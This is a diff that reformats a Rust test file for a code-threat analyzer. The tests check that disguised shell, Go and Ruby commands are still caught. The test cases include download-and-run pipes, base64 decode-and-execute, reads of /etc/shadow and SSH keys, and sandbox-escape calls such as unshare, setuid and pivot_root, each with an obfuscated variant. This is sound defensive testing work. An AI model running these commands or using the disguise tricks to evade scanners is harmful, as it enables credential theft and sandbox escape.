@@ -16,7 +16,12 @@ fn describe(analysis: &Analysis) -> String {
     analysis
         .findings
         .iter()
-        .map(|f| format!("  line {} {} {} {:?}", f.line, f.severity, f.rule, f.excerpt))
+        .map(|f| {
+            format!(
+                "  line {} {} {} {:?}",
+                f.line, f.severity, f.rule, f.excerpt
+            )
+        })
         .collect::<Vec<_>>()
         .join("\n")
 }
@@ -71,17 +76,37 @@ fn bash_command_names_are_read_through_escapes_quotes_and_prefixes() {
             ("eval \"$c\"", "e=eval; $e \"$c\"", "bash.hidden_command"),
             ("eval \"$c\"", "$'\\x65val' \"$c\"", "bash.hidden_command"),
             ("eval \"$c\"", "e\"va\"l \"$c\"", "bash.hidden_command"),
-            ("echo aGk= | base64 -d | bash", "echo aGk= | base64 -d | \\bash", "bash.decode_and_run"),
-            ("echo aGk= | base64 -d | bash", "echo aGk= | base64 -d | env bash", "bash.decode_and_run"),
-            ("curl -s http://x | sh", "curl -s http://x | 'sh'", "bash.download_and_run"),
+            (
+                "echo aGk= | base64 -d | bash",
+                "echo aGk= | base64 -d | \\bash",
+                "bash.decode_and_run",
+            ),
+            (
+                "echo aGk= | base64 -d | bash",
+                "echo aGk= | base64 -d | env bash",
+                "bash.decode_and_run",
+            ),
+            (
+                "curl -s http://x | sh",
+                "curl -s http://x | 'sh'",
+                "bash.download_and_run",
+            ),
             ("gcc x.c", "\\gcc x.c", "bash.native_code"),
             ("gcc x.c", "ls\n\\gcc x.c", "bash.native_code"),
             ("gcc x.c", "command gcc x.c", "bash.native_code"),
             ("bash -c id", "'bash' -c id", "bash.shell"),
             ("bash -c id", "\"bash\" -c id", "bash.shell"),
             ("bash -c id", "env bash -c id", "bash.shell"),
-            ("cat /etc/passwd", "\\cat /etc/passwd", "bash.file_outside_workdir"),
-            ("cat /etc/passwd", "echo hi\n\\cat /etc/passwd", "bash.file_outside_workdir"),
+            (
+                "cat /etc/passwd",
+                "\\cat /etc/passwd",
+                "bash.file_outside_workdir",
+            ),
+            (
+                "cat /etc/passwd",
+                "echo hi\n\\cat /etc/passwd",
+                "bash.file_outside_workdir",
+            ),
             ("unshare -r sh", "\\unshare -r sh", "bash.sandbox_escape"),
             ("unshare -r sh", "exec unshare -r sh", "bash.sandbox_escape"),
             ("sudo id", "\\sudo id", "bash.sandbox_escape"),
@@ -89,11 +114,23 @@ fn bash_command_names_are_read_through_escapes_quotes_and_prefixes() {
             ("curl http://x", "\\curl http://x", "bash.network"),
             ("source <(cat)", "source /dev/fd/0", "bash.eval"),
             ("source <(cat)", ". /dev/stdin", "bash.eval"),
-            ("LD_PRELOAD=x.so prog", "env LD_PRELOAD=x.so prog", "bash.native_code"),
-            ("LD_PRELOAD=x.so prog", "exec env LD_PRELOAD=x.so prog", "bash.native_code"),
+            (
+                "LD_PRELOAD=x.so prog",
+                "env LD_PRELOAD=x.so prog",
+                "bash.native_code",
+            ),
+            (
+                "LD_PRELOAD=x.so prog",
+                "exec env LD_PRELOAD=x.so prog",
+                "bash.native_code",
+            ),
             ("cat /etc/shadow", "cat /etc/sha\"\"dow", "bash.credentials"),
             ("cat /etc/shadow", "cat /etc/'sha'dow", "bash.credentials"),
-            ("cat ~/.ssh/id_rsa", "cat ~/.ssh/id_\"rsa\"", "bash.credentials"),
+            (
+                "cat ~/.ssh/id_rsa",
+                "cat ~/.ssh/id_\"rsa\"",
+                "bash.credentials",
+            ),
             ("pip install x", "\\pip install x", "bash.package_install"),
         ],
     );
@@ -374,7 +411,9 @@ fn javascript_indirect_eval_and_module_loading_are_read() {
 
 #[test]
 fn go_syscall_aliases_values_and_escape_primitives_are_read() {
-    let program = |imports: &str, body: &str| format!("package main\n\nimport {imports}\n\nfunc main() {{\n\t{body}\n}}\n");
+    let program = |imports: &str, body: &str| {
+        format!("package main\n\nimport {imports}\n\nfunc main() {{\n\t{body}\n}}\n")
+    };
     let cases = [
         (
             program("\"syscall\"", "syscall.ForkExec(\"/bin/sh\", nil, nil)"),
@@ -393,7 +432,10 @@ fn go_syscall_aliases_values_and_escape_primitives_are_read() {
         ),
         (
             program("\"syscall\"", "syscall.Exec(\"/bin/sh\", nil, nil)"),
-            program("\"syscall\"", "run := syscall.Exec\n\trun(\"/bin/sh\", nil, nil)"),
+            program(
+                "\"syscall\"",
+                "run := syscall.Exec\n\trun(\"/bin/sh\", nil, nil)",
+            ),
             "go.process",
         ),
         (
@@ -409,17 +451,29 @@ fn go_syscall_aliases_values_and_escape_primitives_are_read() {
     assert_disguises_caught("go", &cases);
     for (imports, body) in [
         ("\"syscall\"", "syscall.PtraceAttach(1)"),
-        ("\"syscall\"", "syscall.Mount(\"none\", \"/mnt\", \"tmpfs\", 0, \"\")"),
-        ("\"golang.org/x/sys/unix\"", "unix.Unshare(unix.CLONE_NEWUSER)"),
+        (
+            "\"syscall\"",
+            "syscall.Mount(\"none\", \"/mnt\", \"tmpfs\", 0, \"\")",
+        ),
+        (
+            "\"golang.org/x/sys/unix\"",
+            "unix.Unshare(unix.CLONE_NEWUSER)",
+        ),
         ("\"syscall\"", "syscall.Setns(3, 0)"),
         ("\"syscall\"", "syscall.Chroot(\"/tmp\")"),
         ("\"syscall\"", "syscall.Setuid(0)"),
-        ("\"golang.org/x/sys/unix\"", "unix.PivotRoot(\".\", \"old\")"),
+        (
+            "\"golang.org/x/sys/unix\"",
+            "unix.PivotRoot(\".\", \"old\")",
+        ),
     ] {
         let analysis = analyzer().analyze("go", program(imports, body).as_bytes());
         assert!(
             analysis.threat_level >= ThreatLevel::High
-                && analysis.findings.iter().any(|f| f.rule == "go.sandbox_escape"),
+                && analysis
+                    .findings
+                    .iter()
+                    .any(|f| f.rule == "go.sandbox_escape"),
             "{body}: {}\n{}",
             analysis.threat_level,
             describe(&analysis)
@@ -428,7 +482,10 @@ fn go_syscall_aliases_values_and_escape_primitives_are_read() {
     assert_graded(
         "go",
         ThreatLevel::None,
-        &[&program("(\n\tstr \"strings\"\n\t\"fmt\"\n)", "fmt.Println(str.ToUpper(\"x\"))")],
+        &[&program(
+            "(\n\tstr \"strings\"\n\t\"fmt\"\n)",
+            "fmt.Println(str.ToUpper(\"x\"))",
+        )],
     );
 }
 
@@ -437,7 +494,11 @@ fn ruby_methods_by_name_iseq_dynamic_require_and_pipe_open_are_read() {
     assert_disguises_caught(
         "ruby",
         &[
-            ("system('id')", "Kernel.method(:system).call('id')", "ruby.eval"),
+            (
+                "system('id')",
+                "Kernel.method(:system).call('id')",
+                "ruby.eval",
+            ),
             ("eval('1')", "method(:eval).call('1')", "ruby.eval"),
             ("eval('1')", "m = method('eval')\nm.call('1')", "ruby.eval"),
             (
@@ -451,7 +512,11 @@ fn ruby_methods_by_name_iseq_dynamic_require_and_pipe_open_are_read() {
                 "ruby.eval",
             ),
             ("require 'fiddle'", "require \"fid\" + \"dle\"", "ruby.eval"),
-            ("require 'fiddle'", "lib = 'fiddle'\nrequire lib", "ruby.eval"),
+            (
+                "require 'fiddle'",
+                "lib = 'fiddle'\nrequire lib",
+                "ruby.eval",
+            ),
             ("require 'fiddle'", "require \"#{'fid'}dle\"", "ruby.eval"),
             ("open('|id')", "Kernel.open('|id').read", "ruby.process"),
             ("open('|id')", "IO.read('|id')", "ruby.process"),
